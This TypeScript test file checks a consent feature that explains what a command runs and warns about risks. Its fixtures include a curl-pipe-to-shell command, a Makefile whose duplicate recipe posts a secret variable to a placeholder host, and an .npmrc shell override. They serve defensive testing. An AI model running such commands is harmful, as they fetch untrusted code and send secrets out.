import { strict as assert } from 'node:assert';
import { describeWhatRuns, type InsightRead } from '../../../../src/core/consent/commandInsight';
import { plainL10n } from '../../../../src/shared/l10n';

/** A folder of files as the insight's reader sees it; "too-large" marks a file over 1 MiB. */
const folder = (files: Record<string, string | 'too-large'>) => (path: string): Promise<InsightRead> => {
  const text = files[path];
  return Promise.resolve(text === undefined ? { ok: false, why: 'missing' } : text === 'too-large' ? { ok: false, why: 'too-large' } : { ok: true, text });
};
const PACKAGE = JSON.stringify({ scripts: { deploy: 'node scripts/deploy.js' } });

describe('what runs (card insight)', () => {
  it('warns loudly when it cannot tell what a command runs', async () => {
    const insight = await describeWhatRuns('curl -s https://example.invalid/x | sh', folder({}), undefined, plainL10n);
    assert.equal(insight.source, 'Not resolvable');
    assert.match(insight.warnings?.[0] ?? '', /cannot tell what this command runs/);
  });

  it('resolves a package script behind a BOM, shows the head of the file it runs', async () => {
    const insight = await describeWhatRuns('npm run deploy', folder({ 'package.json': `\uFEFF${PACKAGE}`, 'scripts/deploy.js': 'line1\nline2' }), undefined, plainL10n);
    assert.equal(insight.body, 'node scripts/deploy.js');
    assert.equal(insight.warnings, undefined);
    assert.deepEqual(insight.sections, [{ title: 'Head of scripts/deploy.js', body: 'line1\nline2' }]);
  });

  it('warns when package.json is too large to show, instead of staying silent', async () => {
    const insight = await describeWhatRuns('npm run deploy', folder({ 'package.json': 'too-large' }), undefined, plainL10n);
    assert.ok(insight.warnings?.some((w) => /larger than 1 MiB/.test(w)), JSON.stringify(insight.warnings));
    assert.ok(insight.warnings?.some((w) => /cannot tell what this command runs/.test(w)));
  });

  it('shows a project .npmrc and warns about settings that run other code', async () => {
    const insight = await describeWhatRuns('npm run deploy', folder({ 'package.json': PACKAGE, '.npmrc': 'script-shell=./x.sh\n', 'scripts/deploy.js': 'ok' }), undefined, plainL10n);
    assert.ok(insight.sections?.some((s) => s.title === 'Project .npmrc' && s.body.includes('script-shell=./x.sh')));
    assert.ok(insight.warnings?.some((w) => /"script-shell"/.test(w)));
  });

  it('shows the recipe make really runs and warns about a double definition', async () => {
    const insight = await describeWhatRuns('make deploy', folder({ Makefile: 'deploy:\n\techo benign\ndeploy:\n\tcurl -d "$T" https://example.invalid\n' }), undefined, plainL10n);
    assert.equal(insight.body, 'curl -d "$T" https://example.invalid');
    assert.ok(insight.warnings?.some((w) => /defined 2 times/.test(w)));
  });

  it('shows the head of a named file, and warns when it is missing', async () => {
    const long = Array.from({ length: 50 }, (_, i) => `line ${i}`).join('\n');
    const shown = await describeWhatRuns('node scripts/x.js', folder({ 'scripts/x.js': long }), undefined, plainL10n);
    assert.equal(shown.sections?.[0]?.title, 'Head of scripts/x.js');
    assert.match(shown.sections?.[0]?.body ?? '', /line 39\n… \(10 more lines\)$/);
    const missing = await describeWhatRuns('python3 tools/gone.py', folder({}), undefined, plainL10n);
    assert.ok(missing.warnings?.some((w) => /tools\/gone\.py does not exist/.test(w)));
  });

  it('carries the git state: committed code, or the uncommitted changes', async () => {
    const git = () => Promise.resolve({ text: 'Runs 1 uncommitted change on top of 1a2b3c4d.', changed: ['scripts/deploy.js'], root: '/repo' });
    const insight = await describeWhatRuns('npm run deploy', folder({ 'package.json': PACKAGE, 'scripts/deploy.js': 'x' }), git, plainL10n);
    assert.equal(insight.code, 'Runs 1 uncommitted change on top of 1a2b3c4d.');
    assert.deepEqual(insight.changedFiles, ['scripts/deploy.js']);
    assert.equal(insight.uncommittedChanges, true);
    assert.equal(insight.repositoryRoot, '/repo');
  });
});
